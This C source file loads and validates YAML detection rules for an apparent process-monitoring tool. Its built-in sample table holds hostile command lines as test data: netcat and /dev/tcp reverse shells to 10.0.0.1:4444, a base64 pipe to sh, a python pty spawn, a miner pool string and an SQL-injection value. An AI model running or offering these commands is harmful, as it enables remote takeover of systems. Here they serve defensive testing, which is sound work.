/* Detection rules: YAML parsing, field checks, sandboxed validation against
 * a built-in sample, and directory loading. See rule.h. */
#include "rule.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <openssl/evp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <yaml.h>

#include "cleanup.h"
#include "process.h"
#include "store.h"
#include "util.h"

#define RULE_NAME_MAX       256
#define RULE_DESC_MAX       4096
#define RULE_CATEGORY_MAX   64
#define RULE_SKIP_DEPTH_MAX 16

/* ---- Field table ----------------------------------------------------------- */

enum field_kind {
	F_STRING,
	F_BOOL,
	F_IGNORED, /* informational: any node, skipped */
};

struct field {
	const char *key;
	enum field_kind kind;
	size_t off; /* into struct rule, for F_STRING / F_BOOL */
	bool required;
};

static const struct field fields[] = {
	{ "id", F_STRING, offsetof(struct rule, id), true },
	{ "name", F_STRING, offsetof(struct rule, name), true },
	{ "description", F_STRING, offsetof(struct rule, description), false },
	{ "severity", F_STRING, offsetof(struct rule, severity), true },
	{ "category", F_STRING, offsetof(struct rule, category), false },
	{ "enabled", F_BOOL, offsetof(struct rule, enabled), false },
	{ "sql", F_STRING, offsetof(struct rule, sql), true },
	{ "author", F_IGNORED, 0, false },
	{ "version", F_IGNORED, 0, false },
	{ "tags", F_IGNORED, 0, false },
	{ "references", F_IGNORED, 0, false },
	{ "mitre", F_IGNORED, 0, false },
};

static const char *const severities[] = { "info", "low", "medium", "high", "critical" };

void
rule_free(struct rule *r)
{
	if (r == NULL)
		return;
	free(r->id);
	free(r->name);
	free(r->description);
	free(r->severity);
	free(r->category);
	free(r->sql);
	free(r->path);
	free(r);
}

bool
rule_id_valid(const char *s)
{
	size_t n;

	if (s == NULL || (n = strlen(s)) == 0 || n > RULE_ID_MAX)
		return false;
	for (size_t i = 0; i < n; i++)
		if (!((s[i] >= 'a' && s[i] <= 'z') || (s[i] >= '0' && s[i] <= '9') || s[i] == '-'))
			return false;
	return true;
}

static bool
category_valid(const char *s)
{
	size_t n = strlen(s);

	if (n > RULE_CATEGORY_MAX)
		return false;
	for (size_t i = 0; i < n; i++)
		if (!((s[i] >= 'a' && s[i] <= 'z') || (s[i] >= 'A' && s[i] <= 'Z') ||
		      (s[i] >= '0' && s[i] <= '9') || s[i] == '-' || s[i] == '_' || s[i] == ' '))
			return false;
	return true;
}

/* ---- YAML ----------------------------------------------------------------- */

struct parser {
	yaml_parser_t yp;
	yaml_event_t ev;
	bool have_ev;
	const char *name;
	struct errbuf *err;
};

static int perr(struct parser *p, size_t line, const char *fmt, ...)
    __attribute__((format(printf, 3, 4)));

static int
perr(struct parser *p, size_t line, const char *fmt, ...)
{
	char msg[ERRBUF_MAX];
	va_list ap;

	va_start(ap, fmt);
	(void)vsnprintf(msg, sizeof(msg), fmt, ap);
	va_end(ap);
	errbuf_set(p->err, "%s:%zu: %s", p->name, line, msg);
	return -EINVAL;
}

/* Advances to the next event (freeing the previous one). */
static int
next_event(struct parser *p)
{
	if (p->have_ev) {
		yaml_event_delete(&p->ev);
		p->have_ev = false;
	}
	if (!yaml_parser_parse(&p->yp, &p->ev)) {
		errbuf_set(p->err, "%s:%zu: invalid YAML: %s", p->name, p->yp.problem_mark.line + 1,
		           p->yp.problem ? p->yp.problem : "?");
		return -EINVAL;
	}
	p->have_ev = true;
	if (p->ev.type == YAML_ALIAS_EVENT)
		return perr(p, p->ev.start_mark.line + 1, "YAML aliases are not allowed");
	return 0;
}

static int
expect(struct parser *p, yaml_event_type_t t, const char *what)
{
	int rc;

	if ((rc = next_event(p)) < 0)
		return rc;
	if (p->ev.type != t)
		return perr(p, p->ev.start_mark.line + 1, "expected %s", what);
	return 0;
}

/* Skips the node whose first event is current (a scalar, sequence or mapping). */
static int
skip_node(struct parser *p)
{
	int depth = 0, rc;

	for (;;) {
		switch (p->ev.type) {
		case YAML_SEQUENCE_START_EVENT:
		case YAML_MAPPING_START_EVENT:
			if (++depth > RULE_SKIP_DEPTH_MAX)
				return perr(p, p->ev.start_mark.line + 1, "nesting too deep");
			break;
		case YAML_SEQUENCE_END_EVENT:
		case YAML_MAPPING_END_EVENT:
			depth--;
			break;
		case YAML_SCALAR_EVENT:
			break;
		default:
			return perr(p, p->ev.start_mark.line + 1, "unexpected YAML");
		}
		if (depth == 0)
			return 0;
		if ((rc = next_event(p)) < 0)
			return rc;
	}
}

static int
parse_bool(const char *v, bool *ret)
{
	static const char *const yes[] = { "true", "yes", "on", "True", "TRUE" };
	static const char *const no[] = { "false", "no", "off", "False", "FALSE" };

	for (size_t i = 0; i < ARRAY_SIZE(yes); i++) {
		if (streq(v, yes[i])) {
			*ret = true;
			return 0;
		}
		if (streq(v, no[i])) {
			*ret = false;
			return 0;
		}
	}
	return -EINVAL;
}

/* Stores the current scalar event into field f of r. */
static int
set_field(struct parser *p, struct rule *r, const struct field *f)
{
	const char *v = (const char *)p->ev.data.scalar.value;
	size_t line = p->ev.start_mark.line + 1;
	char **slot;

	if (f->kind == F_IGNORED)
		return skip_node(p);
	if (p->ev.type != YAML_SCALAR_EVENT)
		return perr(p, line, "%s: expected a single value", f->key);
	if (f->kind == F_BOOL) {
		if (parse_bool(v, (bool *)((char *)r + f->off)) < 0)
			return perr(p, line, "%s: expected true or false", f->key);
		return 0;
	}
	if (strlen(v) != p->ev.data.scalar.length)
		return perr(p, line, "%s: NUL byte in value", f->key);
	slot = (char **)((char *)r + f->off);
	free(*slot);
	if ((*slot = strdup(v)) == NULL)
		return -ENOMEM;
	if (streq(f->key, "sql"))
		r->sql_line = (unsigned)line;
	return 0;
}

static const struct field *
field_find(const char *key)
{
	for (size_t i = 0; i < ARRAY_SIZE(fields); i++)
		if (streq(fields[i].key, key))
			return &fields[i];
	return NULL;
}

/* Parses the top-level mapping into r, remembering which keys were seen. */
static int
parse_mapping(struct parser *p, struct rule *r, bool *seen)
{
	int rc;

	for (;;) {
		const struct field *f;
		size_t line;

		if ((rc = next_event(p)) < 0)
			return rc;
		if (p->ev.type == YAML_MAPPING_END_EVENT)
			return 0;
		line = p->ev.start_mark.line + 1;
		if (p->ev.type != YAML_SCALAR_EVENT)
			return perr(p, line, "expected a key");
		f = field_find((const char *)p->ev.data.scalar.value);
		if (f == NULL)
			return perr(p, line, "unknown key '%s'",
			            (const char *)p->ev.data.scalar.value);
		if (seen[f - fields])
			return perr(p, line, "duplicate key '%s'", f->key);
		seen[f - fields] = true;
		if ((rc = next_event(p)) < 0 || (rc = set_field(p, r, f)) < 0)
			return rc;
	}
}

static int
parse_document(struct parser *p, struct rule *r)
{
	bool seen[ARRAY_SIZE(fields)] = { false };
	int rc;

	if ((rc = expect(p, YAML_STREAM_START_EVENT, "a YAML stream")) < 0 ||
	    (rc = expect(p, YAML_DOCUMENT_START_EVENT, "a YAML document")) < 0 ||
	    (rc = expect(p, YAML_MAPPING_START_EVENT, "a mapping of rule fields")) < 0 ||
	    (rc = parse_mapping(p, r, seen)) < 0 ||
	    (rc = expect(p, YAML_DOCUMENT_END_EVENT, "the end of the document")) < 0)
		return rc;
	if ((rc = next_event(p)) < 0)
		return rc;
	if (p->ev.type != YAML_STREAM_END_EVENT)
		return perr(p, p->ev.start_mark.line + 1, "one rule per file");
	for (size_t i = 0; i < ARRAY_SIZE(fields); i++)
		if (fields[i].required && !seen[i])
			return perr(p, 1, "missing required key '%s'", fields[i].key);
	return 0;
}

/* Checks the values once all are known. */
static int
check_fields(struct parser *p, struct rule *r)
{
	bool sev_ok = false;

	if (!rule_id_valid(r->id))
		return perr(p, 1, "id '%s' must match [a-z0-9-]+ (at most 64 bytes)", r->id);
	if (isempty(r->name) || strlen(r->name) > RULE_NAME_MAX)
		return perr(p, 1, "name must be 1 to 256 bytes");
	if (strlen(r->description) > RULE_DESC_MAX)
		return perr(p, 1, "description longer than 4096 bytes");
	for (size_t i = 0; i < ARRAY_SIZE(severities); i++)
		sev_ok = sev_ok || streq(r->severity, severities[i]);
	if (!sev_ok)
		return perr(p, 1, "severity '%s' must be info, low, medium, high or critical",
		            r->severity);
	if (!category_valid(r->category))
		return perr(p, 1, "category '%s' must be [A-Za-z0-9 _-], at most 64 bytes",
		            r->category);
	if (isempty(r->sql))
		return perr(p, r->sql_line, "sql is empty");
	return 0;
}

static void
sha256_hex(const char *text, size_t len, char out[65])
{
	unsigned char md[EVP_MAX_MD_SIZE];
	unsigned int mdlen = 0;

	if (EVP_Digest(text, len, md, &mdlen, EVP_sha256(), NULL) != 1 || mdlen != 32) {
		out[0] = '\0';
		return;
	}
	hex_encode(md, 32, out);
}

static struct rule *
rule_new(const char *name)
{
	struct rule *r = calloc(1, sizeof(*r));

	if (r == NULL)
		return NULL;
	r->enabled = true;
	r->path = strdup(name);
	r->description = strdup("");
	r->category = strdup("");
	if (r->path == NULL || r->description == NULL || r->category == NULL) {
		rule_free(r);
		return NULL;
	}
	return r;
}

int
rule_parse(const char *name, const char *text, size_t len, struct rule **ret, struct errbuf *err)
{
	struct parser p = { .name = name ? name : "<rule>", .err = err };
	struct rule *r;
	int rc;

	if (len > RULE_FILE_MAX) {
		errbuf_set(err, "%s: larger than %u bytes", p.name, RULE_FILE_MAX);
		return -EINVAL;
	}
	if ((r = rule_new(p.name)) == NULL)
		return -ENOMEM;
	if (!yaml_parser_initialize(&p.yp)) {
		rule_free(r);
		return -ENOMEM;
	}
	yaml_parser_set_input_string(&p.yp, (const unsigned char *)text, len);
	rc = parse_document(&p, r);
	if (p.have_ev)
		yaml_event_delete(&p.ev);
	yaml_parser_delete(&p.yp);
	if (rc < 0 || (rc = check_fields(&p, r)) < 0) {
		rule_free(r);
		return rc;
	}
	sha256_hex(text, len, r->sha256);
	*ret = r;
	return 0;
}

/* ---- Validation against the sample ------------------------------------------ */

struct rule_validator {
	struct store *store;
	struct store_eval *eval;
};

struct sample {
	int32_t pid, ppid;
	const char *name, *exe, *cmd, *cwd, *user, *parent, *parent_exe;
	int64_t uid, euid;
	bool deleted, memfd;
};

#define A8   "aaaaaaaa"
#define A64  A8 A8 A8 A8 A8 A8 A8 A8
#define A512 A64 A64 A64 A64 A64 A64 A64 A64

/* Ordinary processes, and rows built to hurt: long runs that make naive
 * regexps backtrack, quotes and LIKE metacharacters, NULLs everywhere,
 * non-ASCII text, a kernel thread, deleted and memfd images. */
static const struct sample samples[] = {
	{ 1, 0, "systemd", "/usr/lib/systemd/systemd", "/sbin/init splash", "/", "root", NULL, NULL,
	  0, 0, false, false },
	{ 2, 0, "kthreadd", NULL, NULL, NULL, "root", NULL, NULL, 0, 0, false, false },
	{ 812, 1, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D", "/", "root", "systemd",
	  "/usr/lib/systemd/systemd", 0, 0, false, false },
	{ 1500, 812, "bash", "/usr/bin/bash", "-bash", "/home/alice", "alice", "sshd",
	  "/usr/sbin/sshd", 1000, 1000, false, false },
	{ 1501, 1500, "curl", "/usr/bin/curl", "curl -fsSL https://example.com/x.sh", "/tmp",
	  "alice", "bash", "/usr/bin/bash", 1000, 1000, false, false },
	{ 1502, 1500, "sh", "/usr/bin/dash", "sh -c echo aGVsbG8= | base64 -d | sh", "/tmp",
	  "alice", "bash", "/usr/bin/bash", 1000, 1000, false, false },
	{ 1503, 1500, "python3", "/usr/bin/python3.11",
	  "python3 -c import pty;pty.spawn(\"/bin/bash\")", "/home/alice", "alice", "bash",
	  "/usr/bin/bash", 1000, 1000, false, false },
	{ 1504, 1, "x", "/tmp/.hidden/x", "/tmp/.hidden/x --pool stratum+tcp://p:3333", "/tmp",
	  "alice", "systemd", "/usr/lib/systemd/systemd", 1000, 0, true, false },
	{ 1505, 1500, "memfd:payload", "/memfd:payload (deleted)", "payload", "/", "alice", "bash",
	  "/usr/bin/bash", 1000, 1000, true, true },
	{ 1506, 1500, "aaaa", "/" A64, A512 A512 A512 A512 "!", "/" A64, "alice", A64, A64, 1000,
	  1000, false, false },
	{ 1507, 1500, "quote'\"%_\\", "/tmp/it's \"here\" 100%_\\", "x' OR '1'='1 -- %_", "/tmp/%_",
	  "o'brien", "a\"b", "/tmp/\\", 1000, 1000, false, false },
	{ 1508, 1500, NULL, NULL, NULL, NULL, NULL, NULL, NULL, -1, -1, false, false },
	{ 1509, 1500, "\xc3\xa9t\xc3\xa9", "/opt/\xe2\x98\x83/bin", "\xe2\x98\x83 --flag=\xc3\xa9",
	  "/opt", "j\xc3\xbcrgen", "bash", "/usr/bin/bash", 1001, 1001, false, false },
	{ 1510, 1500, "[kworker/0:1]", "/tmp/kworker", "[kworker/0:1]", "/", "alice", "bash",
	  "/usr/bin/bash", 1000, 0, false, false },
	{ 1511, 1500, "nc", "/usr/bin/nc.openbsd", "nc -e /bin/sh 10.0.0.1 4444", "/", "alice",
	  "bash", "/usr/bin/bash", 1000, 1000, false, false },
	{ 1512, 1500, "bash", "/usr/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/",
	  "www-data", "apache2", "/usr/sbin/apache2", 33, 33, false, false },
};

static void
sample_event(const struct sample *s, size_t i, struct process_event *ev)
{
	struct process_record *p = &ev->proc;

	process_event_init(ev);
	ev->type = i % 3 == 0 ? PROC_EV_SNAPSHOT : PROC_EV_START;
	ev->time = 1795626000000ull + i;
	p->pid = s->pid;
	p->ppid = s->ppid;
	p->name = strdup_or_null(s->name);
	p->executable_path = strdup_or_null(s->exe);
	p->command_line = strdup_or_null(s->cmd);
	p->cwd = strdup_or_null(s->cwd);
	p->user_name = strdup_or_null(s->user);
	p->parent_name = strdup_or_null(s->parent);
	p->parent_executable_path = strdup_or_null(s->parent_exe);
	p->start_time = 1795625000000ull + (uint64_t)s->pid;
	p->user_id = s->uid;
	p->effective_user_id = s->euid;
	p->group_id = s->uid;
	p->exe_deleted = s->deleted;
	p->exe_memfd = s->memfd;
	p->file_exists = s->exe != NULL && !s->deleted;
	p->accessible = s->exe != NULL;
	p->threads = 1;
	p->state = strdup("S");
}

void
rule_validator_free(struct rule_validator *v)
{
	if (v == NULL)
		return;
	store_eval_close(v->eval);
	store_close(v->store);
	free(v);
}

int
rule_validator_new(struct rule_validator **ret, struct errbuf *err)
{
	_cleanup_(rule_validator_freep) struct rule_validator *v = NULL;
	struct process_event evs[ARRAY_SIZE(samples)];
	int rc;

	if ((v = calloc(1, sizeof(*v))) == NULL)
		return -ENOMEM;
	if ((rc = store_open(":memory:", STORE_RW, &v->store)) < 0) {
		errbuf_set(err, "sample database: %s", strerror(-rc));
		return rc;
	}
	for (size_t i = 0; i < ARRAY_SIZE(samples); i++)
		sample_event(&samples[i], i, &evs[i]);
	rc = store_ingest_batch(v->store, "sample", evs, ARRAY_SIZE(evs), NULL);
	if (rc >= 0)
		rc = store_eval_open(v->store, &v->eval, err);
	if (rc >= 0)
		rc = store_eval_set_rows(v->eval, evs, NULL, ARRAY_SIZE(evs));
	for (size_t i = 0; i < ARRAY_SIZE(evs); i++)
		process_event_clear(&evs[i]);
	if (rc < 0) {
		if (err && err->msg[0] == '\0')
			errbuf_set(err, "sample database: %s", strerror(-rc));
		return rc;
	}
	*ret = TAKE_PTR(v);
	return 0;
}

/* Counts rows, stopping past RULE_SAMPLE_MAX_ROWS: a rule's rows are alerts,
 * and a rule that floods a 16-process sample would flood the sinks. */
static int
count_row(void *ctx, int ncol, const char *const *names, const char *const *values,
          const char *types)
{
	(void)ncol;
	(void)names;
	(void)values;
	(void)types;
	return ++*(unsigned *)ctx > RULE_SAMPLE_MAX_ROWS;
}

int
rule_validate(struct rule_validator *v, const struct rule *r, uint32_t timeout_ms,
              unsigned *ret_rows, struct errbuf *err)
{
	struct store_stmt *st = NULL;
	unsigned rows = 0;
	int rc;

	if ((rc = store_eval_prepare(v->eval, r->sql, &st, err)) < 0) {
		errbuf_prefix(err, "%s:%u: rule '%s': sql refused", r->path, r->sql_line, r->id);
		return rc;
	}
	rc = store_eval_run(v->eval, st, timeout_ms, count_row, &rows, err);
	store_stmt_free(st);
	if (rc >= 0 && rows > RULE_SAMPLE_MAX_ROWS) {
		errbuf_set(err, "returned more than %u rows for %zu sample processes",
		           RULE_SAMPLE_MAX_ROWS, ARRAY_SIZE(samples));
		rc = -E2BIG;
	}
	if (rc < 0) {
		errbuf_prefix(err, "%s:%u: rule '%s': failed on the validation sample", r->path,
		              r->sql_line, r->id);
		return rc;
	}
	if (ret_rows)
		*ret_rows = rows;
	return 0;
}

static int
rule_read(const char *path, struct rule **ret, struct errbuf *err)
{
	_cleanup_free_ char *buf = NULL;
	size_t len = 0;
	int rc;

	rc = read_file_at(AT_FDCWD, path, RULE_FILE_MAX, false, &buf, &len);
	if (rc == -EFBIG) {
		errbuf_set(err, "%s: larger than %u bytes", path, RULE_FILE_MAX);
		return -EINVAL;
	}
	if (rc < 0) {
		errbuf_set(err, "%s: %s", path, strerror(-rc));
		return rc;
	}
	return rule_parse(path, buf, len, ret, err);
}

int
rule_load(const char *path, uint32_t timeout_ms, struct rule **ret, struct errbuf *err)
{
	_cleanup_(rule_validator_freep) struct rule_validator *v = NULL;
	_cleanup_(rule_freep) struct rule *r = NULL;
	int rc;

	if ((rc = rule_read(path, &r, err)) < 0)
		return rc;
	if ((rc = rule_validator_new(&v, err)) < 0 ||
	    (rc = rule_validate(v, r, timeout_ms, NULL, err)) < 0)
		return rc;
	*ret = TAKE_PTR(r);
	return 0;
}

void
rule_set_free(struct rule_set *s)
{
	if (s == NULL)
		return;
	for (size_t i = 0; i < s->n; i++)
		rule_free(s->rules[i]);
	free(s->rules);
	free(s);
}

static bool
is_rule_file(const char *name)
{
	size_t n = strlen(name);

	if (name[0] == '.')
		return false;
	return (n > 5 && streq(name + n - 5, ".yaml")) || (n > 4 && streq(name + n - 4, ".yml"));
}

static int
cmp_str(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/* The rule file names of dir, sorted. *ret is a NULL-terminated array. */
static int
list_dir(const char *dir, char ***ret, size_t *ret_n)
{
	_cleanup_closedir_ DIR *d = opendir(dir);
	char **names = NULL;
	size_t n = 0;
	struct dirent *de;

	if (d == NULL)
		return -errno;
	while ((de = readdir(d)) != NULL) {
		char **nn;
		if (!is_rule_file(de->d_name))
			continue;
		if (n >= RULE_MAX_PER_SET ||
		    (nn = reallocarray(names, n + 2, sizeof(*names))) == NULL) {
			for (size_t i = 0; i < n; i++)
				free(names[i]);
			free(names);
			return n >= RULE_MAX_PER_SET ? -E2BIG : -ENOMEM;
		}
		names = nn;
		if ((names[n] = strdup(de->d_name)) == NULL) {
			for (size_t i = 0; i < n; i++)
				free(names[i]);
			free(names);
			return -ENOMEM;
		}
		names[++n] = NULL;
	}
	if (n > 0)
		qsort(names, n, sizeof(*names), cmp_str);
	*ret = names;
	*ret_n = n;
	return 0;
}

static bool
set_has_id(const struct rule_set *s, const char *id)
{
	for (size_t i = 0; i < s->n; i++)
		if (streq(s->rules[i]->id, id))
			return true;
	return false;
}

/* Loads one file into the set; returns 1 when rejected (reported), 0 when
 * added, -errno on a hard failure. */
static int
set_add_file(struct rule_set *s, struct rule_validator *v, const char *path, uint32_t timeout_ms,
             rule_reject_fn reject, void *ctx)
{
	_cleanup_(rule_freep) struct rule *r = NULL;
	struct errbuf e = { { 0 } };
	struct rule **nr;
	int rc;

	rc = rule_read(path, &r, &e);
	if (rc == 0 && set_has_id(s, r->id)) {
		errbuf_set(&e, "%s: duplicate rule id '%s'", path, r->id);
		rc = -EINVAL;
	}
	if (rc == 0)
		rc = rule_validate(v, r, timeout_ms, NULL, &e);
	if (rc == -ENOMEM)
		return rc;
	if (rc < 0) {
		if (reject)
			reject(ctx, path, e.msg);
		return 1;
	}
	if (s->n >= RULE_MAX_PER_SET)
		return -E2BIG;
	if ((nr = reallocarray(s->rules, s->n + 1, sizeof(*nr))) == NULL)
		return -ENOMEM;
	s->rules = nr;
	s->rules[s->n++] = TAKE_PTR(r);
	return 0;
}

static int
set_add_dir(struct rule_set *s, struct rule_validator *v, const char *dir, uint32_t timeout_ms,
            rule_reject_fn reject, void *ctx, struct errbuf *err)
{
	char **names = NULL;
	size_t n = 0;
	int rc, rejected = 0;

	if ((rc = list_dir(dir, &names, &n)) < 0) {
		errbuf_set(err, "%s: %s", dir, strerror(-rc));
		return rc;
	}
	for (size_t i = 0; i < n && rc >= 0; i++) {
		char path[4096];
		if (snprintf(path, sizeof(path), "%s/%s", dir, names[i]) >= (int)sizeof(path)) {
			if (reject)
				reject(ctx, names[i], "path too long");
			rejected++;
			continue;
		}
		rc = set_add_file(s, v, path, timeout_ms, reject, ctx);
		if (rc > 0)
			rejected += rc;
	}
	for (size_t i = 0; i < n; i++)
		free(names[i]);
	free(names);
	if (rc < 0) {
		errbuf_set(err, "%s: %s", dir, strerror(-rc));
		return rc;
	}
	return rejected;
}

int
rule_set_load(const char *const *dirs, size_t n, uint32_t timeout_ms, rule_reject_fn reject,
              void *ctx, struct rule_set **ret, struct errbuf *err)
{
	_cleanup_(rule_validator_freep) struct rule_validator *v = NULL;
	struct rule_set *s;
	int rc, rejected = 0;

	if ((rc = rule_validator_new(&v, err)) < 0)
		return rc;
	if ((s = calloc(1, sizeof(*s))) == NULL)
		return -ENOMEM;
	for (size_t i = 0; i < n; i++) {
		if ((rc = set_add_dir(s, v, dirs[i], timeout_ms, reject, ctx, err)) < 0) {
			rule_set_free(s);
			return rc;
		}
		rejected += rc;
	}
	*ret = s;
	return rejected;
}
